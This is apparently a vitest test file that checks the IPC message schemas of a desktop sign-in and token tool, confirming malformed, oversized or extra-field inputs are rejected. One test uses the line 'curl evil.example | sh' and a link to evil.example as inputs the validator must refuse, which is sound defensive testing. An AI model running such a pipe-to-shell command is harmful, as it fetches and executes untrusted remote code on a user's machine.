import { describe, expect, it } from 'vitest';
import { presetDraft, requestDraft, targetDraft } from './test-support/preset-drafts';
import { commandArguments, type CommandName } from './ipc';

const names = Object.keys(commandArguments) as CommandName[];
const accepts = (name: CommandName, args: unknown): boolean => commandArguments[name].safeParse(args).success;
const draft = presetDraft();

const cloudDraft = {
  name: 'Contoso',
  authority: 'https://login.contoso.example',
  armEndpoint: '',
  armAudience: '',
  resources: '',
};
const template = { templateId: 'template-12345678-90ab-cdef-1234-567890abcdef' };
const account = { accountId: 'client-1/zoe.home' };
const client = { clientApplicationId: 'client-1' };
const consumer = {
  name: '',
  identity: {},
  resources: '',
  asksForOthers: true,
  expiresOn: null,
  fromContainers: false,
};

/** One right message for each command that needs something. */
const right: Partial<Record<CommandName, object>> = {
  copyToken: { presetId: 'graph' },
  copySnippet: { presetId: 'graph', format: 'curl' },
  saveSnippet: { presetId: 'graph', format: 'postman-environment' },
  addTemplate: { name: '', text: '{{unchecked}}' },
  editTemplate: { ...template, draft: { name: '', text: '' } },
  deleteTemplate: template,
  restoreTemplate: template,
  moveTemplate: { ...template, to: 2 },
  copyFresh: { presetId: 'graph', format: 'token' },
  answerClaimsChallenge: { presetId: 'graph', text: '{}' },
  renew: { presetId: 'graph' },
  selectClientApplication: client,
  renameClientApplication: { ...client, name: '', colour: 'blue' },
  removeClientApplication: client,
  addCloud: cloudDraft,
  editCloud: { cloudId: 'cloud-1', draft: cloudDraft },
  removeCloud: { cloudId: 'cloud-1' },
  switchSignIn: { flow: 'device-code' },
  showAccount: account,
  copyAccountDetails: account,
  copyId: { id: 'home' },
  addServicePrincipal: {
    name: '',
    clientId: 'unchecked',
    tenant: '',
    cloud: 'public',
    credential: { type: 'secret', secret: '' },
  },
  setCredential: { ...client, credential: { type: 'pem', pem: '' } },
  selectTenant: { ...account, tenantId: 'home' },
  selectSubscription: { ...account, tenantId: 'home', subscriptionId: 'sub' },
  signInForTenant: { ...account, tenant: 'contoso.com' },
  refreshDirectory: account,
  setPresetIdentity: { presetId: 'graph', identity: {} },
  signInForPreset: { presetId: crypto.randomUUID() },
  chooseOrganisationApp: { clientId: 'unchecked', tenant: '' },
  selectAccount: { accountId: 'a.b' },
  signOut: { accountId: 'a.b' },
  showPreset: { presetId: 'graph' },
  addPreset: draft,
  editPreset: { presetId: 'graph', draft },
  answerQuestion: { questionId: '1', answer: { kind: 'fill-in', values: { vault: 'contoso' } } },
  editPlaceholders: { presetId: 'graph' },
  openTryIt: { presetId: 'graph' },
  chooseTrialRequest: { index: 1 },
  sendTrial: {},
  cancelTrial: {},
  satisfyTrial: {},
  saveTrialAnswer: {},
  copyTrialBody: { start: 0, end: 10 },
  copyTrialHeaders: {},
  deletePreset: { presetId: 'graph' },
  restorePreset: { presetId: 'graph' },
  copyInDefaultFormat: { presetId: 'graph' },
  setKeepFresh: { presetId: 'graph', keepFresh: true },
  importFile: { name: 'presets.json', size: 2, bytes: new Uint8Array([123, 125]) },
  importText: { text: '{}' },
  importPresets: { importId: '1', choices: ['skip', 'take', 'both'] },
  undoImport: { importId: '1' },
  exportPresets: { presetIds: ['graph'], to: 'file' },
  addTeam: { source: 'https://contoso.com/apis.json' },
  removeTeam: { teamId: 'abcdef12' },
  refreshTeam: { teamId: 'abcdef12' },
  changeSettings: { change: { theme: 'dark', clipboardClearsAfter: 30 } },
  resetSetting: { setting: 'theme' },
  setStartAtLogin: { startAtLogin: true },
  setHotkey: { hotkey: { presetId: 'graph' }, accelerator: 'CommandOrControl+Alt+G' },
  pauseHotkeys: { paused: true },
  inspectToken: { presetId: 'graph', slot: 'first' },
  inspectText: { slot: 'second', text: 'eyJ' },
  inspectClipboard: { slot: 'first' },
  forgetInspected: { slot: 'first' },
  verifyInspected: { slot: 'second' },
  copyClaim: { slot: 'first', part: 'payload', index: 0 },
  copyTokenPart: { slot: 'first', part: 'header' },
  copyInspected: { slot: 'first' },
  addConsumer: consumer,
  editConsumer: { consumerId: '1', draft: consumer },
  removeConsumer: { consumerId: '1' },
  switchConsumer: { consumerId: '1', isOn: false },
  renewConsumerSecret: { consumerId: '1' },
  copyConsumerLines: { consumerId: '1', form: 'bash' },
  answerConsumer: { consumerId: '1', resource: 'https://vault.azure.net', allow: true },
  signInForConsumer: { consumerId: '1', resource: 'https://vault.azure.net' },
  showPage: { page: 'settings' },
  movePreset: { presetId: 'graph', before: null },
  setPinned: { presetId: 'graph', pinned: true },
  failureAction: { action: 'use-browser' },
  setProxyLogin: { username: 'zoe', password: 'x', remember: false },
  dismissNotice: { kind: 'presets-restored' },
  copyHelpText: { text: 'redirect-uri' },
  copyCommandLineText: { text: 'az-alias-posix' },
  openHelpLink: { link: 'error-code' },
  openCatalogueLink: { id: 'key-vault' },
};

describe('a message from a page', () => {
  it.each(names)('%s is taken in its right form, and refused with anything more', (name) => {
    const args = right[name] ?? {};
    expect(accepts(name, args)).toBe(true);
    expect(accepts(name, { ...args, token: 'x' })).toBe(false);
  });

  it.each(names)('%s is refused without its object', (name) => {
    for (const args of [undefined, null, 'graph', 1, [right[name] ?? {}], () => undefined]) {
      expect(accepts(name, args)).toBe(false);
    }
  });

  it('is refused when a field is missing', () => {
    for (const [name, args] of Object.entries(right)) {
      for (const field of Object.keys(args)) {
        const less = Object.fromEntries(Object.entries(args).filter(([key]) => key !== field));
        expect(accepts(name as CommandName, less), `${name} without ${field}`).toBe(false);
      }
    }
  });

  it.each(['', 'Graph', '../graph', 'a b', '-a', 'a'.repeat(65), 'graph\n'])(
    'has no preset called %j',
    (presetId) => {
      expect(accepts('copyToken', { presetId })).toBe(false);
    },
  );

  it('cannot put a text of its own on the clipboard, nor open a page of its own', () => {
    expect(accepts('copyHelpText', { text: 'curl evil.example | sh' })).toBe(false);
    expect(accepts('copyCommandLineText', { text: 'curl evil.example | sh' })).toBe(false);
    expect(accepts('openHelpLink', { link: 'https://evil.example' })).toBe(false);
  });

  it('is not endless', () => {
    const targets = (change: object) => ({ targets: { demo: { ...targetDraft(), ...change } } });
    expect(accepts('addPreset', { ...draft, name: 'n'.repeat(20_001) })).toBe(false);
    expect(accepts('addPreset', { ...draft, ...targets({ access: 'n'.repeat(1_000_001) }) })).toBe(false);
    expect(
      accepts('addPreset', { ...draft, ...targets({ requests: Array(101).fill(requestDraft()) }) }),
    ).toBe(false);
    const clouds = Array.from({ length: 101 }, (_, n) => [`cloud-${n}`, targetDraft()] as const);
    expect(accepts('addPreset', { ...draft, targets: Object.fromEntries(clouds) })).toBe(false);
    expect(accepts('chooseOrganisationApp', { clientId: 'n'.repeat(1001), tenant: 'x' })).toBe(false);
    expect(accepts('selectAccount', { accountId: 'n'.repeat(601) })).toBe(false);
  });
});
